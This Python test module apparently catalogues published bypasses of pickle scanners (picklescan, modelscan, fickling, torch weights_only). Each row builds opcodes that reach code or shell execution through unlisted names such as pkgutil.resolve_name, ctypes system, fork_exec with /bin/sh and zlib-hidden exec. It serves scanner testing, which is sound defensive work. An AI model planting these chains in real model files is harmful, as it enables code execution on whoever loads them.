"""Published ways past picklescan, modelscan, fickling and torch's weights_only: what is called.

All of them are names that were on no list of bad ones. Each row is a call put before a good
export, where it was published, and the opcodes that make it.
"""

import zlib
from collections.abc import Callable

from tests.attacks.assemble import (
    OP,
    call,
    listed,
    mapped,
    method,
    name,
    number,
    raw,
    several,
    text,
)
from tests.attacks.workshop import Workshop, add

PICKLESCAN = "github.com/mmaitre314/picklescan/security/advisories/GHSA-"
FICKLING = "github.com/trailofbits/fickling/security/advisories/GHSA-"
MODELSCAN = "github.com/protectai/modelscan/issues/"
SHAPES = "torch.fx.experimental.symbolic_shapes"

Opcodes = Callable[[Workshop], bytes]


# Arguments


def code(shop: Workshop) -> bytes:
    return text(shop.code)


def command(shop: Workshop) -> bytes:
    return text(shop.command)


def marker(shop: Workshop) -> bytes:
    return text(str(shop.marker))


def module(shop: Workshop) -> bytes:
    source = shop.folder / "module.py"
    source.write_text(shop.code)
    return text(str(source))


def words(shop: Workshop) -> bytes:
    return listed(text("touch"), marker(shop))


def compressed(shop: Workshop) -> bytes:
    return call(name("zlib", "decompress"), raw(zlib.compress(shop.code.encode())))


def bytecode(shop: Workshop) -> bytes:
    return call(name("builtins", "compile"), code(shop), text("f"), text("exec"))


def always(opcodes: bytes) -> Opcodes:
    return lambda shop: opcodes


EMPTY, ZERO = always(mapped()), always(number(0))
OS = always(name("fastai.imports", "os"))


# Calls


def of(module: str, function: str, *arguments: Opcodes) -> Opcodes:
    """`module.function`, called with what the arguments give."""
    return lambda shop: call(name(module, function), *(make(shop) for make in arguments))


def made(module: str, kind: str, function: str, *arguments: Opcodes) -> Opcodes:
    """A method of an object that is made without arguments."""
    return of(module, f"{kind}.{function}", of(module, kind), *arguments)


def resolved(shop: Workshop) -> bytes:
    return call(call(name("pkgutil", "resolve_name"), text("os:system")), command(shop))


def imported(shop: Workshop) -> bytes:
    found = call(name("importlib", "import_module"), text("os"))
    return call(method(found, "system"), command(shop))


def attribute_got(shop: Workshop) -> bytes:
    getter = call(name("operator", "attrgetter"), text("system"))
    return call(call(getter, OS(shop)), command(shop))


def method_called(shop: Workshop) -> bytes:
    caller = call(name("operator", "methodcaller"), text("system"), command(shop))
    return call(caller, OS(shop))


def library_called(shop: Workshop) -> bytes:
    library = call(name("ctypes", "CDLL"), OP.NONE)
    return call(method(library, "system"), raw(shop.command.encode()))


def grammar_loaded(shop: Workshop) -> bytes:
    inner = raw(call(name("builtins", "exec"), code(shop)) + OP.STOP)
    return made("lib2to3.pgen2.grammar", "Grammar", "loads", always(inner))(shop)


def coefficient_found(shop: Workshop) -> bytes:
    found = call(name("importlib", "import_module"), text("numpy.f2py.crackfortran"))
    program = f"__import__('os').system({shop.command!r})"
    return call(method(found, "getlincoef"), text(program), mapped())


def forked(shop: Workshop) -> bytes:
    """The arguments of Python 3.11's fork_exec, of which the last pipes hear of an error."""
    line = several(raw(b"/bin/sh"), raw(b"-c"), raw(shop.command.encode()))
    pipe = call(name("os", "pipe"))
    ends = [call(name("operator", "getitem"), pipe, number(i)) for i in (0, 1)]
    start = [line, several(raw(b"/bin/sh")), OP.NEWTRUE, several(), OP.NONE, OP.NONE]
    rest = [OP.NEWFALSE, OP.NEWFALSE, number(-1), *[OP.NONE] * 3, number(-1), OP.NONE, OP.NEWFALSE]
    return call(name("_posixsubprocess", "fork_exec"), *start, *[number(-1)] * 6, *ends, *rest)


CALLED: list[tuple[str, str, Opcodes]] = [
    ("pkgutil_resolve_name", PICKLESCAN + "vvpj-8cmc-gx39: any name from a text", resolved),
    ("importlib_import_module", "picklescan pull 74: no GLOBAL names os", imported),
    ("operator_attrgetter", PICKLESCAN + "m273-6v24-x4m4: getattr by another name", attribute_got),
    ("operator_methodcaller", PICKLESCAN + "955r-x9j8-7rhh: a method by its name", method_called),
    ("timeit", PICKLESCAN + "v7x6-rv5q-mhwc", of("timeit", "timeit", always(text("pass")), code)),
    ("cprofile", PICKLESCAN + "9w88-8rmg-7g2p", of("cProfile", "runctx", code, EMPTY, EMPTY)),
    ("profile", PICKLESCAN + "x696-vm39-cp64", made("profile", "Profile", "run", code)),
    ("trace", PICKLESCAN + "5qwp-399c-mjwf", made("trace", "Trace", "run", code)),
    ("bdb", "picklescan pull 29: a debugger runs code", made("bdb", "Bdb", "run", code)),
    (
        "interactive_interpreter",
        "picklescan pull 48",
        made("code", "InteractiveInterpreter", "runcode", bytecode),
    ),
    ("lib2to3_grammar", PICKLESCAN + "f54q-57x4-jg88: unpickles bytes", grammar_loaded),
    (
        "uuid_getter",
        PICKLESCAN + "g38g-8gr9-h9xp: uuid starts a program",
        of("uuid", "_get_command_stdout", always(text("touch")), marker),
    ),
    ("imaplib_stream", PICKLESCAN + "g38g-8gr9-h9xp", of("imaplib", "IMAP4_stream", command)),
    ("pty_spawn", FICKLING + "r7v6-mfhq-g3m2", of("pty", "spawn", words)),
    ("runpy", FICKLING + "wfq2-52f7-7qvj", of("runpy", "_run_code", bytecode, EMPTY)),
    ("posixsubprocess", FICKLING + "m6fh-58r7-x697: what lies beneath subprocess", forked),
    (
        "subinterpreter",
        FICKLING + "6ggj-6f2q-f7mx: source for a new interpreter",
        of("_xxsubinterpreters", "run_string", of("_xxsubinterpreters", "create"), code),
    ),
    ("ctypes_library", "modelscan pull 339: C's own system()", library_called),
    ("zlib_hides", MODELSCAN + "338: no word to be seen", of("builtins", "exec", compressed)),
    ("fileio", "picklescan: makes a file", of("_io", "FileIO", marker, always(text("w")))),
    (
        "logging_handler",
        "picklescan: a handler opens its file",
        of("logging", "FileHandler", marker),
    ),
    ("collect_env", PICKLESCAN + "f745-w6jp-hpxx", of("torch.utils.collect_env", "run", command)),
    (
        "exec_wrapper",
        PICKLESCAN + "vr7h-p6mm-wpmh",
        of("torch.jit.unsupported_tensor_ops", "execWrapper", code, EMPTY, EMPTY),
    ),
    (
        "symbolic_shapes",
        PICKLESCAN + "f4x7-rfwp-v3xw: torch evaluates a text",
        made(SHAPES, "ShapeEnv", "evaluate_guards_expression", code, always(several())),
    ),
    ("numpy_f2py", "fickling pull 210: numpy evaluates a text", coefficient_found),
    (
        "fastcore_run",
        "any name of fastcore allowed means a shell",
        of("fastcore.xtras", "run", command),
    ),
    (
        "torch_hub_module",
        "any name of torch allowed means the source of a module",
        of("torch.hub", "_import_module", always(text("m")), module),
    ),
]

for label, reason, opcodes in CALLED:

    def build(shop: Workshop, opcodes: Opcodes = opcodes) -> bytes:
        return shop.smuggle(opcodes(shop), protocol=4)

    add("published", label, reason, build, fires=True, opens=True)
